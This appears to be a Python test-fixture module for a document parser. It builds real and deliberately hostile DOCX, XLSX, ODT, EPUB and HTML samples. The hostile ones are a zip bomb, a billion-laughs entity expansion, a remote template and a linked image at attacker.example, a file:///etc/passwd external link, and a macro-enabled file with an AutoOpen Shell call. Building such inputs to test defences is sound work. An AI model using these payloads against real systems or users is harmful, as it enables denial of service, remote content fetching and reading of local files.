"""Office, OpenDocument, web and e-book documents for the tests: real ones from the shared
corpus (docling's test files), and hostile ones made from them by changing one thing."""

from __future__ import annotations

import io
import zipfile
from functools import cache
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus" / "docling-testdata"
CORPUS_MISSING = f"the shared corpus is not at {CORPUS}"


def corpus(relative: str) -> bytes:
    return (CORPUS / relative).read_bytes()


def reference(relative: str) -> str:
    """docling's reference Markdown for a corpus document (``docx/sources/x.docx``)."""
    folder, _, name = relative.split("/")
    return (CORPUS / folder / "groundtruth" / f"{name}.md").read_text()


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add=None) -> bytes:
    """A copy of a zip document with some parts replaced and others added."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info, replace.get(info.filename, source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


# --- hostile ------------------------------------------------------------------------------


@cache
def zip_bomb_docx() -> bytes:
    """A real DOCX with one extra part: 64 MiB of zeros, deflated to about 64 KiB."""
    return rezip(
        corpus("docx/sources/lorem_ipsum.docx"), add={"word/media/pad.bin": bytes(1 << 26)}
    )


@cache
def many_parts_docx() -> bytes:
    return rezip(
        corpus("docx/sources/lorem_ipsum.docx"),
        add={f"customXml/item{n}.xml": b"<a/>" for n in range(10_001)},
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
"""


@cache
def entity_expansion_docx() -> bytes:
    data = corpus("docx/sources/lorem_ipsum.docx")
    body = part(data, "word/document.xml").split(b"?>", 1)[1]
    return rezip(
        data,
        replace={"word/document.xml": BILLION_LAUGHS + body.replace(b"<w:t>", b"<w:t>&lol3;", 1)},
    )


@cache
def remote_template_docx() -> bytes:
    data = corpus("docx/sources/lorem_ipsum.docx")
    return rezip(
        data,
        add={
            "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="'
            b'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
            b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>"
        },
    )


@cache
def ole_link_xlsx() -> bytes:
    return rezip(
        corpus("xlsx/sources/xlsx_01.xlsx"),
        add={
            "xl/externalLinks/_rels/externalLink1.xml.rels": b'<?xml version="1.0"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/>'
            b"</Relationships>"
        },
    )


@cache
def linked_image_odt() -> bytes:
    data = corpus("odf/sources/text_document_01.odt")
    content = part(data, "content.xml").replace(
        b"</office:text>",
        b'<text:p><draw:frame><draw:image xlink:href="http://attacker.example/x.png"/>'
        b"</draw:frame></text:p></office:text>",
        1,
    )
    return rezip(data, replace={"content.xml": content})


@cache
def absurd_sheet_xlsx() -> bytes:
    """xlsx_01 with one more filled cell at the last row and column a sheet can have."""
    data = corpus("xlsx/sources/xlsx_01.xlsx")
    sheet = part(data, "xl/worksheets/sheet1.xml").replace(
        b"</sheetData>",
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
        1,
    )
    return rezip(data, replace={"xl/worksheets/sheet1.xml": sheet})


@cache
def macro_docm() -> bytes:
    """A DOCX turned macro-enabled: the content type says so and a VBA project is inside."""
    data = corpus("docx/sources/lorem_ipsum.docx")
    types = part(data, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezip(
        data,
        replace={"[Content_Types].xml": types},
        add={"word/vbaProject.bin": b'Attribute VB_Name = "AutoOpen"\nShell "touch /tmp/x"'},
    )


# --- made here ----------------------------------------------------------------------------


@cache
def epub(chapters: int = 2) -> bytes:
    """A minimal EPUB 3 book with a heading and a paragraph per chapter."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("mimetype", "application/epub+zip", compress_type=zipfile.ZIP_STORED)
        book.writestr(
            "META-INF/container.xml",
            '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:'
            'opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" '
            'media-type="application/oebps-package+xml"/></rootfiles></container>',
        )
        items = "".join(
            f'<item id="c{n}" href="c{n}.xhtml" media-type="application/xhtml+xml"/>'
            for n in range(1, chapters + 1)
        )
        spine = "".join(f'<itemref idref="c{n}"/>' for n in range(1, chapters + 1))
        book.writestr(
            "book.opf",
            '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" '
            'unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
            '<dc:identifier id="id">folio-test</dc:identifier><dc:title>Test book</dc:title>'
            f"<dc:language>en</dc:language></metadata><manifest>{items}</manifest>"
            f"<spine>{spine}</spine></package>",
        )
        for n in range(1, chapters + 1):
            book.writestr(
                f"c{n}.xhtml",
                '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
                f"<h1>Chapter {n}</h1><p>The lighthouse keeper counted {n} ships.</p>"
                "</body></html>",
            )
    return out.getvalue()


ARTICLE_HTML = b"""<!doctype html><html><head><title>Harbour news</title></head><body>
<nav><a href="/">Home</a> | <a href="/sports">Sports</a> | <a href="/weather">Weather</a></nav>
<article><h1>The harbour reopens</h1>
<p>After three weeks of repairs the old harbour reopened on Monday morning, and the first
fishing boats were back at the quay before sunrise. The harbour master said the new sea wall
would hold against the winter storms that damaged the old one in November.</p>
<p>Repairs cost less than planned, and the market hall beside the quay opens again next week
with the same stalls as before. Visitors can take the ferry from the north pier again.</p>
<table><tr><th>Day</th><th>Boats</th></tr><tr><td>Monday</td><td>14</td></tr>
<tr><td>Tuesday</td><td>21</td></tr></table></article>
<footer>Copyright the Harbour Gazette. Subscribe to our newsletter.</footer>
<script>alert("never run")</script></body></html>
"""


@cache
def long_docx(items: int = 120) -> bytes:
    """A Word file of several parts and printed pages: numbered paragraphs ("Item 17. ...")
    of made-up words under a heading every 15 items, so a part's first item names it."""
    import random

    import docx

    words = [
        "harbour",
        "board",
        "minutes",
        "river",
        "tide",
        "vessel",
        "cargo",
        "berth",
        "crane",
        "pilot",
        "quay",
        "lock",
    ]
    chooser = random.Random(7)
    document = docx.Document()
    for number in range(1, items + 1):
        if number % 15 == 1:
            document.add_heading(f"Section {number // 15 + 1}", level=1)
        length = chooser.randint(20, 60)
        text = " ".join(chooser.choice(words) for _ in range(length))
        document.add_paragraph(f"Item {number}. {text}")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@cache
def long_sheet_xlsx(rows: int = 600) -> bytes:
    """A workbook of one sheet with a header and ``rows`` numbered rows (cut into row ranges),
    and a small second sheet."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Ledger"
    sheet.append(["Row", "Vessel", "Tonnes"])
    for number in range(1, rows + 1):
        sheet.append([number, f"vessel {number}", number * 3])
    book.create_sheet("Notes").append(["Checked by the harbour master"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def lengthened_sales_xlsx(rows: int = 600) -> bytes:
    """docling's sample sales workbook (one sheet, four columns, 20 rows of data), saved as
    XLSX with its rows continued, day after day, to ``rows``: a real narrow sheet long enough
    to be cut into row ranges."""
    import datetime

    import openpyxl

    book = openpyxl.load_workbook(CORPUS / "xlsx/sources/xlsx_02_sample_sales_data.xlsm")
    sheet = book.active
    data = list(sheet.iter_rows(min_row=2, values_only=True))
    day = datetime.timedelta(days=1)
    last = data[-1][1]
    for number in range(len(data), rows):
        product, _, quantity, revenue = data[number % len(data)]
        last += day
        sheet.append([product, last, quantity, revenue + number])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
